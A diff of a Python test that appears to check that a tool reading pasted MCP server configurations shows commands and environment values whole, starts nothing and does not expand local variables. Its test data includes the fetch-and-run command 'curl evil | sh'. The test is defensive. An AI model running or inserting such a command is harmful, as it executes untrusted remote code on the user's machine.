@@ -40,12 +40,15 @@ def files(page: Served) -> list[str]:
 def test_servers_are_shown_whole_and_start_nothing(page: Served, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("TOWN", "Timbuktu")
     text = pasted(
-        args=["-c", "curl evil | sh", "${TOWN}"], env={"PATTERN": "curl evil | sh", "PLACE": "${TOWN}"}
+        args=["-c", "curl evil | sh", "${TOWN}"],
+        env={"PATTERN": "curl evil | sh", "PLACE": "${TOWN}"},
+        cwd="/${TOWN}",
     )
     [server] = page.post("/api/tools/read", text=text)["servers"]
     # A value of the paste can hide nothing; one of this machine's environment is not told.
     assert server["command"] == [sys.executable, "-c", "curl evil | sh", "${TOWN}"]
-    assert server["env_names"] == ["PATTERN", "PLACE"] and "Timbuktu" not in json.dumps(server)
+    assert server["variables"] == ["PATTERN=curl evil | sh", "PLACE=${TOWN}"]
+    assert server["cwd"] == "/${TOWN}" and "Timbuktu" not in json.dumps(server)
     for wrong in ("", "{", "[]", '{"mcpServers": {"a": {"command": "no-such-program"}}}', "[" * 100_000):
         told = page.post("/api/tools/read", text=wrong)
         assert told["servers"] == [] and len(told["problems"]) == 1
